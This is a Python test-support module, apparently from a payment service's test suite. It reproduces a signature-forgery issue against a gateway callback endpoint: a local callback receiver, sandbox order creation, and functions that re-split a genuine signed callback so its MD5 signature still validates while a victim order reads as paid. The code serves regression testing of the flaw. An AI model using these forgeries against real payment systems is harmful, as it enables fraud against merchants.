"""An attacker's tools against ``POST /vexora/notify`` (issue 20, finding 1): a receiver that
catches the gateway's genuine callbacks for orders whose ``notifyUrl`` the attacker controls, an
order created at the sandbox directly (signed with the real secret, the way any holder of the
merchant's account can), and re-splits of a genuine callback: the same signed text, hence the same
``sign``, read as other fields.

Bodies are written here by hand (``render``), not with ``worker.signing.callback_body``: a forgery
keeps the genuine ``sign`` and must not be signed again.
"""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from worker.gateway.signing import RawNumber, parse_json_keeping_numbers, sign, signing_string

__all__ = ["Receiver", "create_at_sandbox", "render", "issue_resplit", "resplits", "attack_remark"]


class Receiver(ThreadingHTTPServer):
    """The attacker's notifyUrl: records each callback body, answers 200 ``OK``."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.url = f"http://127.0.0.1:{self.server_address[1]}/notify"
        self._lock = threading.Lock()
        self._bodies: list[bytes] = []
        self._thread = threading.Thread(target=self.serve_forever, daemon=True)

    def __enter__(self) -> "Receiver":
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.shutdown()
        self.server_close()

    def record(self, body: bytes) -> None:
        with self._lock:
            self._bodies.append(body)

    def callbacks(self) -> dict[str, dict]:
        """The latest callback of each tradeNo, parsed with numbers kept as their text."""
        with self._lock:
            bodies = list(self._bodies)
        latest = {}
        for body in bodies:
            fields = parse_json_keeping_numbers(body)
            latest[fields["tradeNo"]] = fields
        return latest


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: Receiver

    def do_POST(self) -> None:
        self.server.record(self.rfile.read(int(self.headers["Content-Length"])))
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"OK")

    def log_message(self, *args) -> None:
        pass


def create_at_sandbox(stack, trade_no: str, remark: str, notify_url: str, amount: str = "300") -> dict:
    """An order created at the sandbox gateway directly (not through the product), signed with the
    merchant's real secret; its callbacks go to ``notify_url``. Returns the answer's ``data``."""
    from tests.support.stack import APP_SECRET, MERCHANT_NO
    body = {"timestamp": str(int(time.time() * 1000)), "tradeNo": trade_no, "userId": "attacker",
            "amount": amount, "mobile": "09011112222", "firstname": "タロウ", "lastname": "ヤマダ",
            "email": "a@example.com", "channelCode": "EWALLET", "wayCode": "PAYPAY",
            "ipAddress": "8.8.4.4", "notifyUrl": notify_url, "returnUrl": "https://attacker.example/r",
            "remark": remark}
    body["sign"] = sign(body, APP_SECRET)
    answer = stack.http.post(stack.sandbox_url + "/v1/vexora/checkout", json=body,
                             headers={"merchantNo": MERCHANT_NO}, timeout=10)
    answer.raise_for_status()
    assert answer.json()["code"] == "0000", answer.text
    return answer.json()["data"]


def attack_remark(victim: str) -> str:
    """The issue's remark: once signed, it reads as ``status=0000``, ``timestamp`` and VICTIM."""
    return f"xstatus=0000timestamp=1tradeNo={victim}zzz="


def render(fields: dict) -> bytes:
    """A callback body as JSON text, ``sign`` kept as given; ``RawNumber`` values travel bare."""
    members = [f"{json.dumps(k)}:{v if isinstance(v, RawNumber) else json.dumps(v, ensure_ascii=False)}"
               for k, v in fields.items()]
    return ("{" + ",".join(members) + "}").encode()


def issue_resplit(genuine: dict, victim: str) -> dict:
    """The issue's forgery from the genuine callback of an order whose remark is
    ``attack_remark(victim)``: VICTIM ``0000``, the genuine ``sign``."""
    unsigned = {k: v for k, v in genuine.items() if k != "sign"}
    text = signing_string(unsigned)
    forged = {k: unsigned[k] for k in ("amount", "message", "platFormTradeNo") if k in unsigned}
    forged.update({"remark": "x", "status": "0000", "timestamp": "1", "tradeNo": victim,
                   "zzz": text.split("zzz=", 1)[1]})
    assert signing_string(forged) == text, (signing_string(forged), text)
    return {**forged, "sign": genuine["sign"]}


def resplits(genuine: dict) -> Iterator[tuple[str, dict]]:
    """Forged variants of one genuine callback, each ``(kind, fields)`` with the genuine ``sign``.

    - ``merge``: for every pair of adjacent signed fields, the second folded into the first
      (``a=1b=2`` read as ``a="1b=2"``): the same text, so the same MD5.
    - ``shift``: for every pair, the boundary moved left into the first value, whose tail becomes
      part of the next key (``a=12b=3`` read as ``a=1``, ``2b=3``): a name nobody documents.
    - ``extra``: a field added that signs as nothing (``""``, ``null``) or as something.
    - ``equals``: ``=`` put into a value (the text changes unless it is a merge).
    """
    unsigned = {k: v for k, v in genuine.items() if k != "sign"}
    signed_keys = sorted(k for k, v in unsigned.items() if v is not None and v != "")
    good = genuine["sign"]
    for left, right in zip(signed_keys, signed_keys[1:]):
        merged = {k: v for k, v in unsigned.items() if k != right}
        merged[left] = f"{unsigned[left]}{right}={unsigned[right]}"
        yield f"merge {left}+{right}", {**merged, "sign": good}
        value = str(unsigned[left])
        for cut in sorted({1, len(value) - 1}):
            if 0 < cut < len(value):
                shifted = {k: v for k, v in unsigned.items() if k != right}
                shifted[left] = value[:cut]
                shifted[value[cut:] + right] = unsigned[right]
                yield f"shift {left}|{right}", {**shifted, "sign": good}
    for name, value in (("zzz", ""), ("zzz", None), ("Status", ""), ("paidAmount", None),
                        ("paidAmount", "300.00"), ("tradeNo2", unsigned["tradeNo"])):
        yield f"extra {name}={value!r}", {**unsigned, name: value, "sign": good}
    for key in ("message", "status", "tradeNo"):
        yield f"equals in {key}", {**unsigned, key: f"{unsigned[key]}=", "sign": good}
